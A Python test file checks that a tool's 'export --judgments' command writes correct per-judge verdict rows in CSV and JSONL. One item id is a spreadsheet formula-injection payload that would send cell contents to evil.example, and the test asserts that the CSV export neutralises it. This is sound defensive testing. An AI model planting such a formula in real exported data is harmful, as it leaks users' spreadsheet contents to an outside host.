"""``council export --judgments``: one flat row per batch item and judge, in CSV and JSONL, on
both storage backends, each row valid against its published JSON Schema (issue 60). The
verdicts below are read off the script; the probabilities counted by hand (the share of the
pair's passes naming the combined verdict)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest
from batch_files import write_jsonl
from click.testing import CliRunner
from fake_judges import first_shown_judge

from council.cli.main import cli
from council.exports.judgments import export_judgments
from council.exports.shapes import export_schema
from council.judging.batch import BatchSettings, content_digest, parse_batch, run_batch

ROOT = Path(__file__).resolve().parents[2]
FLIP = {"A": "B", "B": "A", "TIE": "TIE"}
JUDGES = ("fake/j1", "fake/j2", "fake/j3")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# item: label, then per judge (verdict with A shown first, with B shown first); the judge's
# verdict is their common one (TIE when they differ), the jury's the strict majority of those.
ITEMS = {
    "i1": ("A", ("A", "A"), ("A", "A"), ("A", "B")),  # A A TIE -> A, 5 of 6 passes say A
    HOSTILE: ("B", ("B", "B"), ("A", "B"), ("A", "B")),  # B TIE TIE -> TIE, no pass says TIE
    "i3": (None, ("A", "A"), ("B", "B"), ("B", "B")),  # A B B -> B, 4 of 6
}
COMBINED = {"i1": ("A", 5 / 6), HOSTILE: ("TIE", 0.0), "i3": ("B", 4 / 6)}


def jury(tmp_path):
    rows, scripts = [], {j: {} for j in JUDGES}
    for n, (item_id, (label, *verdicts)) in enumerate(ITEMS.items(), 1):
        a, b = f"answer {n} from A", f"answer {n} from B"
        row = {"id": item_id, "prompt": f"Question {n}?", "a": a, "b": b}
        rows.append(row if label is None else {**row, "label": label})
        for judge, (a_first, b_first) in zip(JUDGES, verdicts, strict=True):
            scripts[judge][a] = a_first
            scripts[judge][b] = FLIP[b_first]
    text = write_jsonl(tmp_path / "jury.jsonl", rows).read_text()
    return text, [first_shown_judge(j, scripts[j], calls=2 * len(rows)) for j in JUDGES]


def expected_rows(batch_id: str) -> list[dict]:
    rows = []
    for item_id, (label, *verdicts) in ITEMS.items():
        combined, probability = COMBINED[item_id]
        for judge, (a_first, b_first) in zip(JUDGES, verdicts, strict=True):
            rows.append({
                "batch_id": batch_id, "item_id": item_id, "label": label, "judge": judge, "model": judge,
                "verdict_a_first": a_first, "verdict_b_first": b_first,
                "verdict": a_first if a_first == b_first else "TIE",
                "combined_verdict": combined, "probability": pytest.approx(probability),
            })  # fmt: skip
    return rows


async def test_one_row_per_item_and_judge_on_both_backends(tmp_path, store_backend):
    text, judges = jury(tmp_path)
    await run_batch(parse_batch(text, "jury.jsonl"), settings=BatchSettings(judges=list(JUDGES)), judges=judges,
                    batch_id="jury", source="jury.jsonl", content_sha256=content_digest(text),
                    store=store_backend)  # fmt: skip
    schema = export_schema("judgments")
    out = io.StringIO()
    assert export_judgments(store_backend, out, fmt="jsonl") == 9
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    for line in lines:
        jsonschema.validate(line, schema)
    assert lines == expected_rows("jury")

    out = io.StringIO()
    assert export_judgments(store_backend, out, fmt="csv", batch_id="jury") == 9
    table = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(table[0]) == list(schema["properties"])
    # A hostile item id never starts a formula in a spreadsheet; the JSONL keeps it as written.
    assert {r["item_id"] for r in table} == {"i1", "'" + HOSTILE, "i3"}
    assert [r["label"] for r in table[6:]] == ["", "", ""] and table[0]["probability"] == str(lines[0]["probability"])

    out = io.StringIO()
    assert export_judgments(store_backend, out, fmt="jsonl", batch_id="another") == 0 and out.getvalue() == ""


def test_the_published_schema_is_current():
    published = json.loads((ROOT / "docs/schemas/export-judgments.schema.json").read_text())
    assert published == export_schema("judgments")


def test_the_cli_writes_the_judgments(tmp_path, council_home):
    rows = [{"id": f"p{i}", "prompt": f"Q{i}?", "a": f"a{i}", "b": f"b{i}", "label": "A"} for i in range(3)]
    path = write_jsonl(tmp_path / "two.jsonl", rows)
    runner = CliRunner()
    ran = runner.invoke(cli, ["batch", str(path), "--judge", "fake/x+first", "--judge", "fake/y+first"])
    assert ran.exit_code == 0, ran.output
    jsonl = runner.invoke(cli, ["export", "--judgments"])
    assert jsonl.exit_code == 0, jsonl.output
    lines = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert len(lines) == 6 and {(r["item_id"], r["judge"]) for r in lines} == {
        (f"p{i}", j) for i in range(3) for j in ("fake/x+first", "fake/y+first")
    }
    # A judge that always prefers the first slot: A with A first, B with B first, a TIE overall.
    assert all((r["verdict_a_first"], r["verdict_b_first"], r["verdict"]) == ("A", "B", "TIE") for r in lines)
    assert "exported 6 judgments" in jsonl.stderr
    out = tmp_path / "j.csv"
    written = runner.invoke(cli, ["export", "--judgments", "--format", "csv", "-o", str(out)])
    assert written.exit_code == 0, written.output
    assert out.read_text().splitlines()[0] == ("batch_id,item_id,label,judge,model,verdict_a_first,verdict_b_first,"
                                               "verdict,combined_verdict,probability")  # fmt: skip
    mixed = runner.invoke(cli, ["export", "--judgments", "--bias-records"])
    assert mixed.exit_code == 2 and "--judgments" in mixed.stderr and "\n" not in mixed.stderr.strip()
